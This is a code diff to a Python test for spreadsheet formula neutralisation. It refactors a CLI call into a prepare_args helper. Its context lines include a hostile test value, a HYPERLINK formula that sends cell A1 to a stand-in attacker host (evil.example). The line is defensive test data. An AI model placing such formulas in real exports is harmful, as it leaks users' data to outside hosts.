@@ -13,6 +13,7 @@ import yaml
 import rbtools
 from coopdocs.compute.spreadsheets import neutralise, to_csv_text, to_xlsx_bytes
 from coopdocs.compute.tables import Frame
+from coopdocs.workflow.commands import prepare_args
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -78,19 +79,7 @@ def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
     path.write_text(buf.getvalue(), encoding="utf-8")
     cfg = yaml.safe_load((project / "config" / "config.yaml").read_text(encoding="utf-8"))
     with rbtools._cwd(project):
-        rbtools._cli(
-            "prepare",
-            "--data",
-            "data",
-            "--bundle",
-            "build/data/bundle.json",
-            "--contexts",
-            "build/context",
-            "--organisation",
-            cfg["organisation"],
-            "--epoch",
-            str(rbtools.EPOCH),
-        )
+        rbtools._cli(*prepare_args(cfg, rbtools.EPOCH))
         rbtools._cli(
             "tables",
             "--bundle",
